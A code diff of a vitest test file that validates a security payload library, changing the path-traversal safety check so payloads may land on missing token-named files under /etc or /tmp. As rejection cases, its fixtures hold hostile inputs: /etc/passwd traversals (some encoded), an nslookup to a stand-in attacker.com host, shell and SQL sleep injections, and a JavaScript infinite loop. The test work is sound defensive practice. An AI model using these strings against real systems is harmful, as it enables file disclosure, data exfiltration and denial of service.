@@ -1,4 +1,5 @@
 import type { Payload } from '../../../src/payloads/index.js';
+import { existsSync } from 'node:fs';
 import { posix } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { loadPayloads, renderPayload } from '../../../src/payloads/index.js';
@@ -105,7 +106,13 @@ const PATH_TRANSFORMS: readonly ((s: string) => string)[] = [
   (s) => s.split('\u0000')[0] ?? '',
 ];
 
-/** Every decoding a handler might apply (up to four in a row) must resolve to /tmp or stay inside the base. */
+/** Directories a path payload may land in, directly: a name there never collides with a file the system needs. */
+const PATH_LANDINGS = new Set(['/etc', '/tmp']);
+
+/**
+ * Every decoding a handler might apply (up to four in a row) must stay inside the base, or resolve to a name that
+ * carries the token directly under /etc or /tmp and does not exist: never an existing file, never a directory root.
+ */
 const paths: Check = (p, text) => {
   if (!p.contexts.includes('path')) return [];
   const seen = new Set([text]);
@@ -126,9 +133,13 @@ const paths: Check = (p, text) => {
   }
   return [...seen]
     .map((variant) => [variant, posix.resolve(PATH_BASE, variant)] as const)
-    .filter(([, resolved]) => !resolved.startsWith('/tmp/') && !resolved.startsWith(`${PATH_BASE}/`))
+    .filter(([, resolved]) => !resolved.startsWith(`${PATH_BASE}/`) && !isHarmlessLanding(resolved))
     .map(([variant, resolved]) => `${JSON.stringify(variant)} -> ${resolved}`);
 };
+
+function isHarmlessLanding(resolved: string): boolean {
+  return PATH_LANDINGS.has(posix.dirname(resolved)) && posix.basename(resolved).includes(TOKEN) && !existsSync(resolved);
+}
 
 const delays: Check = (p, text) => {
   const bad: string[] = [];
@@ -174,9 +185,10 @@ const CHECKS: readonly (readonly [string, Check, readonly (readonly [string, rea
   ['names no host outside the allowed set, in URLs or elsewhere', hosts, [
     ['nslookup {{token}}.attacker.com', ['shell']], ['10.0.0.1', ['url']], ['{{token}}.other.invalid', ['url']],
   ]],
-  ['resolves every path payload to /tmp (or inside the base) under any decoding', paths, [
-    ['../../../../../../etc/passwd', ['path']], ['..%2f..%2f..%2f..%2fetc%2fpasswd', ['path']], ['/etc/{{token}}', ['path']],
-    ['....//....//....//....//root/{{token}}', ['path']], ['../../../../tmp/../etc/{{token}}', ['path']],
+  ['resolves every path payload to a missing token name under /etc or /tmp (or inside the base) under any decoding', paths, [
+    ['../../../../../../etc/passwd', ['path']], ['..%2f..%2f..%2f..%2fetc%2fpasswd', ['path']], ['/root/{{token}}', ['path']],
+    ['....//....//....//....//root/{{token}}', ['path']], ['../../../../etc/{{token}}/../passwd', ['path']], ['../../../../etc/', ['path']],
+    ['/{{token}}', ['path']], ['../../../../etc/sub/{{token}}', ['path']], ['/etc/{{token}}%2f..%2fhosts', ['path']],
   ]],
   ['sleeps or busy-waits for at most 2 s per evaluation', delays, [
     [';sleep 10 #{{token}}', ['shell']], ["'; WAITFOR DELAY '0:0:30'--", ['sql']], ['while(true);', ['js']], ['Date.now()+60000', ['js']],
